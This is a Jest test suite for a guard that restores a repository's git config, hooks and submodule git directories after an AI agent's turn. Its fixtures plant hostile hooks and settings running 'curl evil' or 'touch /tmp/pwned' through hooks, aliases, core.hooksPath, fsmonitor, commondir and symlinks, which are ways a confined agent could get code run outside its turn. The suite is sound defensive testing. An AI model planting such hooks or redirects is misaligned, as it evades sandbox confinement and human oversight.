/**
 * The checkout's git control files (config, hooks) are put back after the turn: in-process, on real
 * repositories made by `git init` in a temporary directory.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { gitControlWarning, snapshotGitControl } from '../../src/confine/git-guard.js';

function repo(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'git-guard-'));
  expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0);
  fs.writeFileSync(path.join(dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', {
    mode: 0o755
  });
  return dir;
}
const git = (dir: string, ...args: string[]) =>
  spawnSync('git', ['-C', dir, ...args], { encoding: 'utf8' });
const read = (dir: string, rel: string) => fs.readFileSync(path.join(dir, rel), 'utf8');

describe('the git control files', () => {
  test('left alone: nothing is reported and nothing is rewritten', () => {
    const dir = repo();
    const config = path.join(dir, '.git', 'config');
    const inode = fs.statSync(config).ino;
    const guard = snapshotGitControl(dir);
    // The agent's work on the checkout is its own: a file and a commit change nothing here.
    fs.writeFileSync(path.join(dir, 'work.txt'), 'done\n');
    expect(git(dir, 'add', 'work.txt').status).toBe(0);
    expect(guard.restore()).toEqual([]);
    expect(fs.statSync(config).ino).toBe(inode);
  });

  test('a planted hook, a changed hook and a hooksPath in the config are put back', () => {
    const dir = repo();
    const config = read(dir, '.git/config');
    const guard = snapshotGitControl(dir);
    fs.writeFileSync(path.join(dir, '.git', 'hooks', 'pre-push'), '#!/bin/sh\ncurl evil\n', {
      mode: 0o755
    });
    fs.writeFileSync(path.join(dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
    expect(git(dir, 'config', 'core.hooksPath', '/tmp/evil-hooks').status).toBe(0);
    expect(git(dir, 'config', 'alias.st', '!curl evil').status).toBe(0);
    const changed = guard.restore();
    expect(changed).toEqual(['.git/config', '.git/hooks/pre-commit', '.git/hooks/pre-push']);
    expect(read(dir, '.git/config')).toBe(config);
    expect(git(dir, 'config', '--get', 'core.hooksPath').stdout).toBe('');
    expect(fs.existsSync(path.join(dir, '.git', 'hooks', 'pre-push'))).toBe(false);
    expect(read(dir, '.git/hooks/pre-commit')).toBe('#!/bin/sh\nexit 0\n');
    expect(fs.statSync(path.join(dir, '.git', 'hooks', 'pre-commit')).mode & 0o777).toBe(0o755);
    expect(gitControlWarning(dir, changed)).toContain(path.join(dir, '.git/hooks/pre-push'));
  });

  test('links planted in their place are removed, never followed', () => {
    const dir = repo();
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'git-guard-outside-'));
    fs.writeFileSync(path.join(outside, 'victim'), 'untouched\n');
    const guard = snapshotGitControl(dir);
    fs.rmSync(path.join(dir, '.git', 'config'));
    fs.symlinkSync(path.join(outside, 'victim'), path.join(dir, '.git', 'config'));
    fs.rmSync(path.join(dir, '.git', 'hooks'), { recursive: true });
    fs.symlinkSync(outside, path.join(dir, '.git', 'hooks'));
    expect(guard.restore()).toContain('.git/config');
    expect(fs.lstatSync(path.join(dir, '.git', 'config')).isFile()).toBe(true);
    expect(fs.lstatSync(path.join(dir, '.git', 'hooks')).isDirectory()).toBe(true);
    expect(read(dir, '.git/hooks/pre-commit')).toBe('#!/bin/sh\nexit 0\n');
    expect(fs.readFileSync(path.join(outside, 'victim'), 'utf8')).toBe('untouched\n');
    expect(fs.readdirSync(outside)).toEqual(['victim']);
    expect(git(dir, 'status', '--short').status).toBe(0);
  });

  test('a FIFO planted as a hook does not block the check, and goes', () => {
    const dir = repo();
    const guard = snapshotGitControl(dir);
    expect(spawnSync('mkfifo', [path.join(dir, '.git', 'hooks', 'post-checkout')]).status).toBe(0);
    expect(guard.restore()).toEqual(['.git/hooks/post-checkout']);
    expect(fs.existsSync(path.join(dir, '.git', 'hooks', 'post-checkout'))).toBe(false);
  });

  test("a submodule's git directory is guarded too", () => {
    const dir = repo();
    const sub = path.join(dir, '.git', 'modules', 'lib');
    fs.mkdirSync(path.join(sub, 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(sub, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(sub, 'config'), '[core]\n\tbare = false\n');
    const guard = snapshotGitControl(dir);
    fs.appendFileSync(path.join(sub, 'config'), '[core]\n\tfsmonitor = curl evil\n');
    expect(guard.restore()).toEqual(['.git/modules/lib/config']);
    expect(read(dir, '.git/modules/lib/config')).toBe('[core]\n\tbare = false\n');
  });

  test('a workspace that is not a repository: a repository the agent makes there is taken away', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'git-guard-none-'));
    const guard = snapshotGitControl(dir);
    fs.writeFileSync(path.join(dir, 'work.txt'), 'done\n');
    expect(guard.restore()).toEqual([]);
    // A later step's git status in the workspace would run this repository's fsmonitor.
    expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0);
    expect(guard.restore()).toEqual(['.git']);
    expect(fs.existsSync(path.join(dir, '.git'))).toBe(false);
  });

  test('a .git replaced by a link is removed, named, and nothing is written through it', () => {
    const dir = repo();
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'git-guard-outside-'));
    const guard = snapshotGitControl(dir);
    fs.renameSync(path.join(dir, '.git'), path.join(dir, 'moved'));
    fs.symlinkSync(outside, path.join(dir, '.git'));
    expect(guard.restore()).toEqual(['.git']);
    expect(fs.existsSync(path.join(dir, '.git'))).toBe(false);
    expect(fs.readdirSync(outside)).toEqual([]);
  });

  test('a commondir planted to send git to a config of its own is removed', () => {
    const dir = repo();
    const guard = snapshotGitControl(dir);
    fs.mkdirSync(path.join(dir, '.git', 'evil'));
    fs.writeFileSync(path.join(dir, '.git', 'evil', 'config'), '[core]\n\tfsmonitor = curl evil\n');
    fs.writeFileSync(path.join(dir, '.git', 'commondir'), 'evil\n');
    expect(guard.restore()).toEqual(['.git/commondir']);
    expect(fs.existsSync(path.join(dir, '.git', 'commondir'))).toBe(false);
  });

  // As root the folder stays listable whatever its mode: the EACCES path is exercised where the
  // suite runs as another user (a developer's machine), as the action on a hosted runner does.
  test('a hooks folder left unlistable (chmod 300) is still put back', () => {
    const dir = repo();
    const guard = snapshotGitControl(dir);
    const hooks = path.join(dir, '.git', 'hooks');
    fs.writeFileSync(path.join(hooks, 'pre-push'), '#!/bin/sh\ncurl evil\n', { mode: 0o755 });
    fs.chmodSync(hooks, 0o300);
    expect(guard.restore()).toContain('.git/hooks/pre-push');
    expect(fs.readdirSync(hooks)).not.toContain('pre-push');
    expect(fs.readdirSync(hooks)).toContain('pre-commit');
  });

  test('a submodule folder reached through a planted link is named and nothing is written there', () => {
    const dir = repo();
    const sub = path.join(dir, '.git', 'modules', 'lib');
    fs.mkdirSync(path.join(sub, 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(sub, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(sub, 'config'), '[core]\n');
    const guard = snapshotGitControl(dir);
    const elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'git-guard-elsewhere-'));
    fs.mkdirSync(path.join(elsewhere, 'lib'));
    fs.writeFileSync(path.join(elsewhere, 'lib', 'config'), "not the guard's\n");
    fs.renameSync(path.join(dir, '.git', 'modules'), path.join(dir, '.git', 'modules-moved'));
    fs.symlinkSync(elsewhere, path.join(dir, '.git', 'modules'));
    expect(guard.restore()).toEqual(['.git/modules/lib']);
    expect(fs.readFileSync(path.join(elsewhere, 'lib', 'config'), 'utf8')).toBe(
      "not the guard's\n"
    );
    expect(fs.readdirSync(path.join(elsewhere, 'lib'))).toEqual(['config']);
  });
});

describe('the .git entries in the worktree and the git directories under .git/modules', () => {
  /** A checkout with a submodule at lib/: its gitfile and its git directory under .git/modules. */
  function withSubmodule(): string {
    const dir = repo();
    const module = path.join(dir, '.git', 'modules', 'lib');
    expect(spawnSync('git', ['init', '-q', '--bare', module]).status).toBe(0);
    fs.mkdirSync(path.join(dir, 'lib'));
    fs.writeFileSync(path.join(dir, 'lib', '.git'), 'gitdir: ../.git/modules/lib\n');
    return dir;
  }

  test('a new git directory, a gitfile sent to it and a new nested .git are taken away and named', () => {
    const dir = withSubmodule();
    const guard = snapshotGitControl(dir);
    // The agent's: a git directory with an fsmonitor, the submodule's gitfile pointed at it, a new repo.
    const evil = path.join(dir, '.git', 'modules', 'evil');
    expect(spawnSync('git', ['init', '-q', '--bare', evil]).status).toBe(0);
    expect(git(evil, 'config', 'core.fsmonitor', 'touch /tmp/pwned').status).toBe(0);
    fs.writeFileSync(path.join(dir, 'lib', '.git'), 'gitdir: ../.git/modules/evil\n');
    fs.mkdirSync(path.join(dir, 'sub'));
    expect(spawnSync('git', ['init', '-q', path.join(dir, 'sub')]).status).toBe(0);
    const changed = guard.restore();
    expect(changed).toEqual(['.git/modules/evil', 'lib/.git', 'sub/.git']);
    expect(fs.existsSync(evil)).toBe(false);
    expect(fs.existsSync(path.join(dir, 'sub', '.git'))).toBe(false);
    expect(read(dir, 'lib/.git')).toBe('gitdir: ../.git/modules/lib\n');
    expect(gitControlWarning(dir, changed)).toContain(path.join(dir, 'sub/.git'));
  });

  test('a submodule left alone, and a nested repository that was there before, stay', () => {
    const dir = withSubmodule();
    expect(spawnSync('git', ['init', '-q', path.join(dir, 'vendor', 'x')]).status).toBe(0);
    const guard = snapshotGitControl(dir);
    fs.writeFileSync(path.join(dir, 'lib', 'work.txt'), 'done\n');
    expect(guard.restore()).toEqual([]);
    expect(fs.existsSync(path.join(dir, 'vendor', 'x', '.git', 'HEAD'))).toBe(true);
  });

  test("a nested repository's planted hook is put back like the checkout's", () => {
    const dir = repo();
    expect(spawnSync('git', ['init', '-q', path.join(dir, 'vendor', 'x')]).status).toBe(0);
    const guard = snapshotGitControl(dir);
    fs.writeFileSync(path.join(dir, 'vendor', 'x', '.git', 'hooks', 'pre-commit'), 'curl evil\n');
    expect(guard.restore()).toEqual(['vendor/x/.git/hooks/pre-commit']);
  });
});
